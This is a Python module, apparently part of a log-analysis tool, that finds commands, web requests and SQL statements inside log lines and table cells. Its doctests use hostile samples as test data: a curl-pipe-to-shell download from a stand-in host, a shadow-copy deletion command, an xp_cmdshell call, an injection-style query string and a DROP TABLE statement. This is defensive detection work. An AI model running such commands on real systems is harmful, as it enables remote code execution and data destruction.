"""What an application says in its own words, or prints in cells: that it ran a command, that somebody asked for something on the web, or a statement in SQL.

Owns the words that say so, and where in a sentence or a cell the value begins and ends. Refuses what somebody gave and the application repeats: names,
searches, subjects, and pairs that hold no message.
"""
from __future__ import annotations

import re
from functools import lru_cache
from itertools import islice, starmap
from typing import Iterable, Iterator, List, Match, Optional, Tuple

from .bare import COMMAND, REQUEST, Bare, bare_of, has_shell_sign, has_sign, is_known, is_listed
from .names import letters_of
from .strangers import STAMP, is_strangers, repeats
from .weblog import METHODS, WebRequest

#: What an application says of a request in its own words.
_SAID = re.compile(r"(?:^|(?<=[\s\"'\[(|:]))(?<!-X )(?<!--request )(?<!Method )([A-Z]{3,9}) ((?:https?://[^\s\"'/]{1,260})?/[^\s\"]{0,8000})\"?(?:[ ,:>=-]{1,4}HTTP/\d(?:\.\d)?\"?)?(?:[ ,:>=-]{1,4}(?:status[=: ]{1,2})?([1-5]\d\d)(?![\w.]))?")
#: In lower case: a search for words of either case looks at every place.
_SAID_COMMAND = re.compile(r"(?:execut(?:ed|ing|e)|exec|ran|run|running|spawn(?:ed|ing)?|start(?:ed|ing)?|launch(?:ed|ing)?|invok(?:ed|ing|e)|subprocess|command|cmd|commandline|cmdline|shell|args|input)"
                           r"(?:[ _](?:as \S{1,40} )?(?:shell|command|process|subprocess|program|cmd|line|script|call|args))*"
                           r"(?: (?:accepted|received|queued|dispatched|authorized|started|\d{1,7}))?(?: (?:by|for|from|on) [^\s:]{1,60}(?=\s?(?::|->|=>) ))?(?:\s?(:|->|=>)\s{0,3}|\s{0,3}(?=[\"'`\[])|\s{1,3})")
#: One of these stands in all of them: to look for each costs less than to search for all.
_WORDS_FOR_ACTS = ("exec", "run", "ran", "spawn", "start", "launch", "invok", "subprocess", "command", "cmd", "shell", "args", "input")
#: No word for an act stands behind these: they are another word's, a name's or a page's.
_BEFORE_SAID = re.compile(r"[\w.?&'-]")
#: Nor behind these: a name that was refused, or a hint.
_BEFORE_OTHER = ("invalid ", "user ", "usage: ", "hint: ", "tip: ", "help: ", "try: ")
#: Behind another word these bid somebody to run something.
_BIDDING = re.compile(r"(?<!about to )(?:run|execute|invoke)\b")
_SAID_REACH = 400
#: So many places are looked at where one of these may begin.
SAID_MAX = 6
_CLIENT = re.compile(r"(?<![\w.:/=-])((?:\d{1,3}\.){3}\d{1,3})(?![\w.])")
#: No value behind such words is longer.
LINE_REACH = 4_096


def is_plain(bare: Bare) -> bool:
    """Whether a command shows without any name beside it that it is one: by a program that is no word as well, and what follows."""
    return (bare.is_script or bool(bare.programs) and is_known(bare.programs[0])) and has_sign(bare.value)


def certain(text: str) -> Optional[Bare]:
    """The command that `text` is by its shape; a word alone may be anything."""
    bare = bare_of(text) if " " in text else None
    return bare if bare is not None and bare.kind == COMMAND else None


def command_said(text: str) -> Optional[Bare]:
    """The command that an application says it ran, behind the word for that.

    >>> command_said("job 7: executing command: curl http://gate/x | sh").programs, command_said("Command: start the engine")
    (('curl', 'sh'), None)
    >>> command_said("ran ['sh', '-c', 'curl http://gate/x | sh'] in /tmp").value, command_said("user ann ran `vssadmin delete shadows /all` (exit 0)").value
    ('sh -c "curl http://gate/x | sh"', 'vssadmin delete shadows /all')
    """
    told = command_told(text)
    return told[1] if told is not None else None


#: Where in a line the words begin that say it, and what they say.
Told = Tuple[int, Bare]


def command_told(text: str) -> Optional[Told]:
    """The same, and where the words begin that say it."""
    head = text[:_SAID_REACH].lower()
    if len(head) != len(text[:_SAID_REACH]):
        return None  # places in it are others
    if not any(word in head for word in _WORDS_FOR_ACTS):
        return None
    for said in islice((said for said in _SAID_COMMAND.finditer(head) if _is_word_for_act(head, said.start())), SAID_MAX):
        bare = None if _is_of_other(text, said.start()) or _is_given(text, said.start()) else certain(value_from(text, said.end()))
        opening = text[said.end():said.end() + 1]
        if bare is not None and (said[1] or is_plain(bare) or opening in _OF_CODE or opening in _OPENING and has_shell_sign(bare.value)):
            return said.start(), bare
    return None


def _is_word_for_act(head: str, start: int) -> bool:
    """Whether the word at `start` is one of its own, no other's object and nothing that somebody is bidden."""
    if not start:
        return True
    if _BEFORE_SAID.match(head, start - 1) or head.endswith(_BEFORE_OTHER, 0, start):
        return False
    return not (head[max(0, start - 2)].isalpha() and _BIDDING.match(head, start))


def _is_given(text: str, start: int) -> bool:
    """Whether the words before `start` are about a name, a search or a mail that somebody gave."""
    return _GIVEN.search(text, 0, start) is not None


_GIVEN = re.compile(r"(?i)\b(?:log[io]n|sign.?in|auth\w{0,12}|password|user(?:name)?|account)\b.{0,80}?\b(?:fail|invalid|den(?:y|ied)|reject|incorrect|unknown|illegal)|"
                    r"\b(?:fail\w{0,3}|invalid|denied|rejected|incorrect|unknown|illegal)\b.{0,40}?\b(?:log[io]n|user|account|password)|\b(?:subject|user.?agent|referr?er|search\w{0,3}|query|cookie|header|comment|title)\b")


def _is_of_other(text: str, start: int) -> bool:
    """Whether what begins at `start` stands in the value of a pair that holds no message."""
    if "=" not in text[:start]:
        return False
    if text.count('"', 0, start) % 2 == 0:
        return False
    name = _NAME_BEFORE.search(text, 0, text.rindex('"', 0, start))
    return name is not None and letters_of(name[1]) not in MESSAGES


#: What members are called that hold an application's own words.
MESSAGES = ("message", "msg", "text", "eventmessage", "log", "description")
_NAME_BEFORE = re.compile(r"([\w.-]{1,60})=\Z")
#: Signs that open a value in a sentence, and those that open nothing but what a program reads.
_OPENING, _OF_CODE = frozenset("\"'`["), frozenset("`")
#: Where a value in quotes ends, though such quotes may stand in it: the line does, or goes on in its own words.
_CLOSING = {sign: re.compile(rf"{sign}(?=\s*(?:\Z|[,;)\]|])| (?:in|on|as|by|for|with|from|at|exit|rc|took|returned|user|pid|\(|\w+=))") for sign in "\"'`"}
_CLOSING["["] = re.compile(r"\](?=\Z|[\s,;)/.:])")
_LISTED = re.compile(r"\s{0,3}(?:'((?:[^'\\]|\\.){0,8000})'|\"((?:[^\"\\]|\\.){0,8000})\")\s{0,3}(?:,|(?=\]))")
_LISTED_MAX = 64
_NEXT_NAME = re.compile(r"[,;|] ?[A-Za-z][\w-]{1,40}(?: [A-Za-z]\w{1,20})?: ")


def value_from(text: str, start: int) -> str:
    """The value that begins at `start` in a sentence: in quotes, as a list of words, or as far as the line goes."""
    sign, rest = text[start:start + 1], text[start:start + LINE_REACH]
    if sign not in _OPENING:
        following = _NEXT_NAME.search(rest)
        return (rest if following is None else rest[:following.start()]).rstrip()
    if sign == "[" and (listed := joined(words_of(rest))):
        return listed
    end = _CLOSING[sign].search(rest, 1)
    return rest[1:end.start() if end is not None else len(rest)].strip()


def words_of(text: str) -> List[str]:
    """The words in quotes of the list that `text` begins with, as Python and JSON print one.

    >>> words_of("['sh', '-c', 'a b'] in /tmp")
    ['sh', '-c', 'a b']
    """
    words: List[str] = []
    position = 1
    while len(words) < _LISTED_MAX and (word := _LISTED.match(text, position)) is not None:
        words.append(re.sub(r"\\(['\"\\])", r"\1", word[1] or word[2] or ""))
        position = word.end()
    return words


def command_free(text: str) -> Optional[Told]:
    """A command that stands in a line behind a prompt, a colon, a bracket or a sign between cells: one that shows by itself that it is one."""
    sign = _sign_of_row(text) if text[:1] == '"' else None
    first = certain(_cell_from(text, 0, sign)) if sign is not None else None
    if first is not None and is_plain(first):
        return 0, first
    pair = text.find("=", 0, _SAID_REACH)  # behind it values stand
    end = pair if pair >= 0 else _SAID_REACH
    if not (any(starmap(_may_begin_command, set(_BEHIND_SIGN.findall(text, 0, end)))) or any(text.find(prompt, 0, end) >= 0 for prompt in ("$ ", "+ ", "PS>"))):
        return None
    for opening in islice(_FREE.finditer(text, 0, end), _FREE_MAX):
        start, sign = opening.end(), opening[1]
        is_prompted = sign in _PROMPTS and _is_prompt(text, opening.start(), start)
        if not is_prompted:
            if sign in "+$":
                continue
            named = _PROGRAM_NAMED.match(text, start)
            if named is None or named[1] is not None and not (is_listed if sign in _CELLS else is_known)(named[1]):
                continue
        if sign not in _CELLS:
            sign = None
        elif text.count(sign, 0, opening.start()) < 1:
            continue
        if text.count('"', 0, start) % 2 or is_strangers(text, start) or _is_given(text, start):
            continue
        bare = certain(_cell_from(text, start, sign))
        if bare is not None and (is_prompted or is_plain(bare) or sign is not None and bare.programs and is_listed(bare.programs[0]) and has_shell_sign(bare.value)):
            return start, bare
    return None


#: A sign behind which a command may begin in a line that says nothing of it: one that keeps cells apart, what a shell prints, or another one.
_SIGN_BEFORE = r"([|;,\t:\]>+$])(?:(?<=[|;,\t]) ?|(?<=[:\]>])(?: |(?=/))|(?<=[+$]) )"
#: The same, and what stands behind it: the beginning of a place or of a script, or a word, as far as it goes.
_BEHIND_SIGN = re.compile(_SIGN_BEFORE + r"(?=\"?([A-Za-z]:\\|[A-Za-z][\w.+-]{1,42}|/(?:usr/|local/|s?bin/|var/|tmp/|dev/)|[.&]? ?\(|\$[\w:{]|\[[A-Za-z]|\.\\))")


@lru_cache(maxsize=1 << 12)
def _may_begin_command(sign: str, word: str) -> bool:
    """Whether a command may begin with `word` behind `sign`: logs have few words, and most of them are no program's name."""
    return not word[0].isalpha() or word[1] == ":" or _CMDLET.match(word) is not None or (is_listed if sign in _CELLS else is_known)(word)


_CMDLET = re.compile(r"[A-Z][a-z]{2,12}-[A-Z]\w{2}")


def _is_prompt(text: str, place: int, start: int) -> bool:
    """Whether the sign at `place` is what a shell prints before the command at `start`."""
    if text[start - 1] != " ":
        return False
    return text.endswith("PS", 0, place) if text[place] == ">" else not text[:place].rstrip("+")[-1:].isalnum()


#: Where a command may begin in such a line.
_FREE = re.compile(_SIGN_BEFORE + r"(?=[\"A-Za-z.\\/%$&(\[@])")
_PROMPTS = frozenset("+$>")
_FREE_MAX = 24
_PROGRAM_NAMED = re.compile(r"\"?(?:[A-Z][a-z]{2,12}-[A-Z]\w{2,60}(?=[\s;|(])|([A-Za-z][\w.+-]{1,40})(?=[\s\"])|[A-Za-z]:\\|/(?:usr/)?(?:local/)?s?bin/|/(?:var/)?tmp/|/dev/shm/|[.&]? ?\(|\$[\w:{]{1,60}\s?[+=.\[(|]|\[[A-Za-z]|\.\\)")
_CELLS = frozenset("|;,\t")


def command_prompted(text: str) -> Optional[Told]:
    """A command that a terminal showed behind its prompt, which a line may begin with or hold behind a time.

    >>> command_prompted("2031-03-01T10:11:12Z sh-4.2$ curl -s http://gate/x | sh")[1].programs, command_prompted("db7 C:\\jobs>net stop a")[1].value
    (('curl', 'sh'), 'net stop a')
    >>> command_prompted("login failed for ann@db7 /tmp % curl -s http://gate/x")
    """
    head = text[:_PROMPT_REACH]
    if not any(sign in head for sign in ("$ ", "# ", " % ", "PS", ":\\")):
        return None
    for prompt in islice(_PROMPTED.finditer(head), SAID_MAX):
        start = prompt.end()
        if "=" in text[:prompt.start()] and not prompt[1] or text.count('"', 0, start) % 2 or is_strangers(text, prompt.start()) or _is_given(text, prompt.start()):
            continue
        bare = bare_of(text[start:start + LINE_REACH].strip())
        if bare is not None and bare.kind == COMMAND and (prompt[1] or " " in bare.value):
            return prompt.start(), bare
    return None


def is_begun(text: str, start: int) -> bool:
    """Whether no more than a header stands before `start`: behind other words a stranger may have written what looks like a prompt."""
    return _BEFORE_PROMPT.fullmatch(text, 0, start) is not None


_LEVELS = ("trace", "debug", "info", "notice", "warn", "warning", "error", "fatal", "critical")
_BEFORE_PROMPT = re.compile(rf"(?:<\d{{1,3}}>)?\[?(?:{STAMP})?\]?\s{{0,4}}(?:(?!\[?(?i:{'|'.join(_LEVELS)})\b)[^\s|;,=\"]{{1,80}}\s{{1,4}}){{0,2}}")
_PROMPT_REACH = 300
#: What shells print before what is typed: with a place, a user and a host, which nothing else looks like, or with a name at most.
_PROMPTED = re.compile(r"(?:\A|(?<=\s))(?:((?:\[[\w.-]{1,80}\]: )?PS(?: (?:[A-Za-z]:\\|~|/)[^>\n]{0,120})?> ?|[A-Za-z]:\\[^<>|\"\n:]{0,120}(?<! )> ?|\[?[\w.-]{1,40}@[\w.-]{1,80}(?:[: ][^\s$#%\]]{0,120})?\]?(?:[$#]| %) )|[\w.-]{0,60}[$#] )(?=\S)")


def _cell_from(text: str, start: int, sign: Optional[str]) -> str:
    """The cell that begins at `start` in a line of cells between `sign`; where no sign is, all that follows."""
    rest = text[start:start + LINE_REACH]
    if sign is None:
        return value_from(text, start)
    if rest[0] == '"':
        end = _QUOTED_END.search(rest, 1)
        return (rest[1:end.start()] if end is not None else rest[1:]).replace('""', '"')
    end = re.compile(rf"(?<![\s{re.escape(sign)}]){re.escape(sign)}(?![\s{re.escape(sign)}])").search(rest)
    return (rest[:end.start()] if end is not None else rest).rstrip()


_QUOTED_END = re.compile(r"(?<!\")\"(?:\"\")*(?!\")")


def joined(words: Iterable[str]) -> str:
    """A command of which the words come one by one; those with blanks in them in quotes, as they were typed."""
    words = [word for word in words if word]
    if len(words) == 1:
        word = words[0].strip()
        return joined(words_of(word[:LINE_REACH])) or word[1:-1] if word[:1] == "[" and word[-1:] == "]" else word
    return " ".join(f'"{word}"' if " " in word and '"' not in word else word for word in words).strip()


def is_asked_for(word: str) -> bool:
    bare = bare_of(word) if word.startswith(("/", "http")) else None
    return bare is not None and bare.kind == REQUEST


def request_said(text: str) -> Optional[WebRequest]:
    """The request that an application tells in its own words, with who asked where that stands before it.

    >>> request_said('INFO ::1 "GET /a?id=1%27" 200 12ms')[:3], request_said("GET along with /etc")
    (('GET', '/a?id=1%27', '200'), None)
    >>> request_said("10:11|192.0.2.7|GET|/a?id=1%27|200|12")[:3], request_said("Request URL: /a?id=1%27").target
    (('GET', '/a?id=1%27', '200'), '/a?id=1%27')
    """
    told = request_told(text)
    return told[1] if told is not None else None


def request_told(text: str) -> Optional[Tuple[int, WebRequest]]:
    """The same, and where the words begin that tell it."""
    for said in islice(_all_said(text), SAID_MAX):
        if said[1] in METHODS:
            return said.start(), WebRequest(said[1], said[2], said[3] or "", client=_client_before(text, said.start()))
    for cells in islice(_CELLS_OF_REQUEST.finditer(text, 0, _SAID_REACH), SAID_MAX):
        if cells[2] in METHODS:
            sign = cells[1]
            target, status, _ = re.split(rf"\"?{re.escape(sign)} ?([1-5]\d\d(?!\d)|-(?={re.escape(sign)}))|\Z", text[cells.end():cells.end() + 8_000], maxsplit=1)
            target = target if status else target.partition(sign)[0]
            if " " not in target.strip():
                return cells.start(), WebRequest(cells[2], target.strip(), "" if status == "-" else status or "", client=_client_before(text, cells.start() + 1))
    row = _request_in_row(text)
    if row is not None:
        return row
    asked = _ASKED.search(text, 0, _SAID_REACH + 8_400) if ("?" in text or "%" in text) and _ASKED_SIGN.search(text[:_SAID_REACH].lower()) else None
    if asked is None or asked.start() > _SAID_REACH or not is_asked_for(asked[1]):
        return None
    method = _METHOD_SAID.search(text, 0, _SAID_REACH)
    if method is None and "request" not in asked[0].lower():
        return None
    return asked.start(), WebRequest(method[1] if method is not None and method[1] in METHODS else "", asked[1], client=_client_before(text, len(text)))


def _request_in_row(text: str) -> Optional[Tuple[int, WebRequest]]:
    """The request in a row of which one cell is a method and another, wherever it stands, what was asked for."""
    found = _CELL_OF_METHOD.search(text, 0, LINE_REACH) if any(map(text[:_SAID_REACH].__contains__, _SIGNS_OF_ROWS)) else None
    if found is None or found[2] not in METHODS or is_strangers(text, found.start()):
        return None
    cells = [cell.strip(' "') for cell in text[:LINE_REACH].split(found[1] or found[3])[:_ROW_CELLS_MAX]]
    target = next(filter(is_asked_for, cells), "")
    status = next(filter(_STATUS_CELL.fullmatch, cells), "")
    return (found.start(), WebRequest(found[2], target, status, client=_client_before(text, len(text)))) if target and len(cells) >= _ROW_CELLS_MIN else None


#: A method in a cell of its own; rows with commas are known by their own reader.
_CELL_OF_METHOD = re.compile(r"(?:([|;\t]) ?|\A)\"?([A-Z]{3,9})\"? ?(?=([|;\t])|\Z)")
_SIGNS_OF_ROWS = frozenset("|;\t")
_ROW_CELLS_MIN, _ROW_CELLS_MAX = 4, 64
_STATUS_CELL = re.compile(r"[1-5]\d\d")


def _all_said(text: str) -> Iterator[Match[str]]:
    """All that reads like a method and what it asks for. To look for what is asked for and then back costs a fraction of a search for the method."""
    position = 0
    for asked in _ASKED_FOR.finditer(text, 0, _SAID_REACH):
        place = start = asked.start() + 1
        if start <= position:
            continue
        while start and place - start < _METHOD_MAX_CHARS and text[start - 1].isupper():
            start -= 1
        said = _SAID.match(text, start)
        if said is not None:
            yield said
            position = said.end()


_ASKED_FOR = re.compile(r"[A-Z] (?:/|http)")
_METHOD_MAX_CHARS = 10


def _client_before(text: str, end: int) -> str:
    client = _CLIENT.search(text, 0, end)
    return client[1] if client is not None else ""


#: A method and a page in cells beside each other.
_CELLS_OF_REQUEST = re.compile(r"([|;,\t]) ?\"?([A-Z]{3,9})\"? ?\1 ?\"?(?=/|https?://)")
#: A page that was asked for, behind a word for it; a place alone may be anything's.
_ASKED = re.compile(r"(?i)(?<![\w?&/.-])(?:(?:request(?:ed|ing)?|incoming|url|uri|path)\b[ _]?){1,3}(?:(?:for|to|of|line)\b ?)?\s?:?\s?[\"'\[(]?((?:https?://[^\s\"'/]{1,260})?/[^\s\"'\])?]{0,2000}[?%][^\s\"'\])]{1,8000}?)(?=[,;]?(?:[\s\"'\])]|\Z))")
_ASKED_SIGN = re.compile(r"request|url|uri|path|incoming")
_METHOD_SAID = re.compile(r"(?:(?i:method)\s?[:=]\s?|(?<![\w-]))\"?([A-Z]{3,9})(?![\w-])")


def is_statement(text: object) -> bool:
    """Whether `text` is a statement in SQL.

    >>> is_statement("SELECT name FROM items"), is_statement("exec xp_cmdshell 'whoami'"), is_statement("select.example.com"), is_statement(None)
    (True, True, False, False)
    """
    return isinstance(text, str) and _STATEMENT.match(text) is not None


#: What statements begin with. Words that people write as well count in capitals alone, as those write them that ask databases. Before many
#: alternatives a look ahead ends the blanks: each would be tried behind every one of them.
_STATEMENT = re.compile(r"(?is)\s{0,20}(?:/\*.{0,200}?\*/\s{0,20})?(?:(?:explain\s+(?:analyze\s+)?)?select\s(?:.{0,4000}?(?:\bfrom\s|\()|\s*[@\d'])|(?:bulk\s+insert|insert\s+(?:/\*.{0,200}?\*/\s*)?into)\s|"
                        r"update\s+\S+\s+(?:set\s|(?:as\s+)?\w{1,40}\s+set\s+\S{1,80}\s*=)|delete\s+from\s|merge\s+into\s|load\s+data\s|"
                        r"(?:drop|alter|create|truncate)\s+(?=\S)(?:or\s+replace\s+)?(?:table|database|schema|user|role|login|function|procedure|trigger|view|index|server|system|extension|assembly|(?:\w{1,20}\s+)?audit\s+(?:policy|specification))\s|"
                        r"(?:grant|revoke)\s.{1,400}?\s(?:on|to|from)\s|copy\s.{1,2000}?\s(?:to|from)\s|exec(?:ute)?\s+(?=\S)(?:\w{1,60}\.{1,2}){0,3}(?:xp|sp|usp)_\w|exec(?:ute)?\s?\(\s?n?'|execute\s+as\s+(?:user|login)\s|"
                        r"call\s+[\w.]{1,80}\s?\(|with\s+\w{1,60}\s+as\s{0,3}\(|declare\s+@|begin\s+\w{1,60}(?:\.\w{1,60}){1,3}\s?[(;]|"
                        r"truncate\s+[\w.\"`\[\]]{1,120}\s*(?:;|\Z)|refresh\s+materialized\s+view\s|set\s+(?:global|persist|@@\w)|(?:backup|restore)\s+(?:database|log|certificate)\s|change\s+(?:master|replication\s+source)\s+to\s|"
                        r"create\s+event\s+\S{1,80}\s+on\s|dbcc\s+\w{1,40}\s?\(|waitfor\s+delay\s|(?:start|stop|reset)\s+(?:slave|replica)\b|install\s+(?:component|plugin)\s|noaudit\s|lock\s+tables?\s+\S{1,120}\s+in\s|"
                        r"(?-i:ANALYZE|VACUUM|REINDEX|FLUSH|SHOW|EXPLAIN|KILL|HANDLER|WAITFOR|COMMENT ON|EXEC(?:UTE)?|CREATE_REPLICATION_SLOT|START_REPLICATION|SET(?: (?:ROLE|NAMES|SESSION|LOCAL|TRANSACTION)| [\w.@]{1,60}(?= ?=| TO ))|(?:DROP|ALTER|CREATE)\s+[A-Z]{2,12})(?=\s))")
#: What goes before a statement in a line, and in a row of cells; behind a database's own mark its reader knows whether it is one.
_SAID_STATEMENT = re.compile(r"(?i)(?:(?<!LOG: )(?<!LOG:  )\b(?:sql|query|statement|execut(?:ed|ing|e))\b[^:\n]{0,60}:|\(\d{1,6}\.\d{1,6}\))\s{1,3}(?=[a-z/])")
_CELL_OF_STATEMENT = re.compile(r"(?:([|;,\t]) ?|\A)(?=\"?(?:SELECT|INSERT|UPDATE|DELETE|DROP|ALTER|CREATE|TRUNCATE|GRANT|REVOKE|COPY|EXEC|EXECUTE|MERGE|CALL|WITH|DECLARE|LOAD|BULK|BACKUP|SET|SHOW|REFRESH|select|exec) )")
#: Somebody typed what stands close behind these.
_TYPED = re.compile(r"(?i)\b(?:search\w{0,3}|typed|wrote|said|posted|subject|comment\w{0,3}|title|mail|chat|question|note|forum|feedback|review|ticket)\b")
_TYPED_REACH = 60


#: Words that begin what an application says and name no host, and what is said so and no program.
_VERBS = frozenset("executing executed running ran launching invoking spawning starting slow exec execute".split())
_SUBJECTS = frozenset("command cmd cmdline commandline exec sql query statement args shell input ran running executing executed".split())


def is_said(host: Optional[str], program: str) -> bool:
    """Whether what looks like the `host` and the `program` of a header are an application's words for what it ran.

    >>> is_said("Executing", "SQL"), is_said(None, "command"), is_said("INFO", "sql"), is_said("db1", "sql"), is_said("exec", "sudo"), is_said("[PC7]:", "PS")
    (True, True, True, False, False, True)
    """
    if host and host.endswith("]:"):
        return True  # of a prompt
    if host and host.lower() not in _LEVELS:
        return host.lower() in _VERBS and not repeats(program)
    return program.lower() in _SUBJECTS


def _has_sign_of_statement(head: str) -> bool:
    return ": " in head and ("sql" in head or "query" in head or "execut" in head or "statement" in head) or head[:head.find(") ") if ") " in head else 0][-1:].isdecimal()


def statement_said(text: str) -> str:
    """The statement that an application tells behind the word for that, "" where it tells none.

    >>> statement_said("WARN Slow query (2103 ms): SELECT count(*) FROM orders"), statement_said("query: select a colour")
    ('SELECT count(*) FROM orders', '')
    """
    told = statement_told(text)
    return told[1] if told is not None else ""


def statement_told(text: str) -> Optional[Tuple[int, str]]:
    """The same, and where the words begin that tell it."""
    said = _SAID_STATEMENT.search(text, 0, _SAID_REACH) if _has_sign_of_statement(text[:_SAID_REACH].lower()) else None
    if (said is None or _STATEMENT.match(text, said.end()) is None or _is_of_other(text, said.start()) or _is_given(text, said.start())
            or _TYPED.search(text, max(0, said.start() - _TYPED_REACH), said.end()) is not None):
        return None
    return said.start(), text[said.end():said.end() + LINE_REACH]


def _sign_of_row(text: str) -> Optional[str]:
    """What stands between the cells of a row behind its first cell, which holds a statement or a command; a comma behind quotes alone, and no blank behind it."""
    row = _FIRST_CELL.match(text, 0, LINE_REACH)
    return None if row is None else row[1] or row[2]


_FIRST_CELL = re.compile(r"\"(?:[^\"]|\"\"){1,4000}\"([|;,\t])[^\s|;,]|[^\"|;\t\n]{1,4000}([|;\t])(?=\S[^|;\t\n]{0,200}\2\S)")


def statement_in_cells(text: str) -> Optional[Tuple[int, str]]:
    """A statement that is a cell of its own, and where it begins.

    >>> statement_in_cells("2031-03-01 10:11:12;db1;ann;DROP TABLE orders;0"), statement_in_cells("10:11|ann|SELECT a colour|0")
    ((28, 'DROP TABLE orders'), None)
    """
    for opening in islice(_CELL_OF_STATEMENT.finditer(text, 0, _SAID_REACH), SAID_MAX):
        start, sign = opening.end(), opening[1] or _sign_of_row(text)
        if sign is None or start and text.find(sign, 0, opening.start()) < 0 or text.count('"', 0, start) % 2 or is_strangers(text, start) or _is_given(text, start):
            continue
        cell = _cell_from(text, start, sign)
        if _STATEMENT.match(cell) is not None and (cell[0].isupper() or _SIGN_OF_STATEMENT.search(cell) is not None):
            return start, cell
    return None


_SIGN_OF_STATEMENT = re.compile(r"[*(='@]")
